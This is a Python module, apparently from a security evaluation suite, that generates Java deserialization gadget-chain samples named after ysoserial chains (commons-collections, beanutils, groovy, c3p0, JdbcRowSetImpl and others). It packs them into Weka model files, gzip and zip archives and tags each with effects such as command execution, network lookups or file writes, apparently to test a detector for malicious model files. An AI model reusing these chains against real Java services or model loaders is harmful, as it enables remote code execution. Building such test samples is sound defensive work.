"""Objects of Java whose classes run something while they are read."""

from __future__ import annotations

import gzip
import struct
from collections.abc import Iterator

from evals.archives import zipped
from evals.java_objects import (
    COLLECTIONS,
    END,
    SERIALIZABLE,
    WRITE_METHOD,
    Array,
    Data,
    Fields,
    Thing,
    Type,
    array_list,
    commons_collections,
    hash_map,
    proxy,
    stream,
    templates,
    thing,
    tree,
    url,
)
from evals.samples import COMMAND, URL, Sample

READ = ("java.io.ObjectInputStream", "weka.core.SerializationHelper")
CODE, RUN = ("code_exec",), ("process_exec", "code_exec")
COMPARED = Type(
    "java.util.PriorityQueue",
    (("I", "size"), ("Ljava/util/Comparator;", "comparator")),
    SERIALIZABLE | WRITE_METHOD,
)


def _queue(comparator: object, *items: object) -> Thing:
    """Return a queue, which compares what is in it while it is read."""
    size = struct.pack(">i", len(items))
    return Thing(COMPARED, [Fields(size), comparator, Data(size), *items, END])


def _chains() -> dict[str, tuple[object, tuple[str, ...]]]:
    """Return chains of ysoserial by name, with what they do."""
    handler = "sun.reflect.annotation.AnnotationInvocationHandler"
    trigger = "javax.management.BadAttributeValueExpException"
    made = thing(f"{COLLECTIONS}.functors.InstantiateTransformer", templates())
    compared = thing("org.apache.commons.beanutils.BeanComparator", "outputProperties")
    closure = thing("org.codehaus.groovy.runtime.MethodClosure", COMMAND, "execute")
    groovy = thing("org.codehaus.groovy.runtime.ConvertedClosure", closure)
    caching = thing("org.aspectj.weaver.tools.cache.SimpleCache$StoreableCachingMap", "/tmp/x")
    return {
        "commons-collections": (commons_collections(COMMAND), RUN),
        "commons-collections-4": (
            _queue(
                thing("org.apache.commons.collections4.comparators.TransformingComparator", made)
            ),
            CODE,
        ),
        "beanutils": (_queue(compared, templates()), CODE),
        "templates": (thing("java.util.LinkedHashSet", templates()), CODE),
        "toString": (thing(trigger, commons_collections(COMMAND)), RUN),
        "groovy": (thing(handler, proxy("java.util.Map", groovy)), CODE),
        "rome": (
            hash_map([(thing("com.sun.syndication.feed.impl.ObjectBean", templates()), "v")]),
            ("code_exec", "object_graph"),
        ),
        "spring": (
            thing("org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider"),
            CODE,
        ),
        "c3p0": (thing("com.mchange.v2.c3p0.PoolBackedDataSource", URL), CODE),
        "jrmp": (
            proxy(
                "java.rmi.registry.Registry", thing("java.rmi.server.RemoteObjectInvocationHandler")
            ),
            ("network",),
        ),
        "rowset": (thing("com.sun.rowset.JdbcRowSetImpl", URL), ("network",)),
        "file-upload": (
            thing("org.apache.commons.fileupload.disk.DiskFileItem", "/tmp/x"),
            ("file_write",),
        ),
        "aspectj": (thing(f"{COLLECTIONS}.map.LazyMap", caching), ("file_write",)),
        "beanshell": (thing("bsh.XThis", f'exec("{COMMAND}")'), CODE),
        "jython": (thing("org.python.core.PyFunction", "code"), CODE),
        "rhino": (thing("org.mozilla.javascript.NativeJavaObject", "x"), CODE),
        "clojure": (thing("clojure.main$eval_opt", COMMAND), CODE),
        "myfaces": (
            thing("org.apache.myfaces.view.facelets.el.ValueExpressionMethodExpression"),
            CODE,
        ),
        "vaadin": (thing("com.vaadin.data.util.NestedMethodProperty", "x"), ("object_graph",)),
        "coherence": (
            thing("com.tangosol.util.extractor.ReflectionExtractor", "exec", COMMAND),
            CODE,
        ),
        "signed": (
            thing("java.security.SignedObject", Array("[B", stream(commons_collections(COMMAND)))),
            RUN,
        ),
    }


def samples() -> Iterator[Sample]:
    """Yield the samples."""
    technique = "objects of Java"
    for name, (value, effects) in _chains().items():
        forms = {
            "alone": stream(value),
            "behind-a-model": stream(*tree(), value),
            "in-a-model": stream(thing("weka.classifiers.trees.J48", array_list(value))),
            "gzip": gzip.compress(stream(value), mtime=0),
            "zip": zipped({"classifier.model": stream(value)}),
        }
        for form, data in forms.items():
            yield Sample(f"java-{name}-{form}", technique, effects, READ, data, "m.model")
    hidden = stream(commons_collections(COMMAND), longer=True)
    yield Sample("java-long-names", technique, RUN, READ, hidden)
    stored = thing("weka.core.SerializedObject", Array("[B", gzip.compress(stream(templates()))))
    yield Sample("java-packed-in-bytes", technique, CODE, READ, stream(stored))
    looked_up = stream(hash_map([(url(URL), "v")]))
    yield Sample("java-address-as-key", "addresses of Java", ("network",), READ, looked_up)
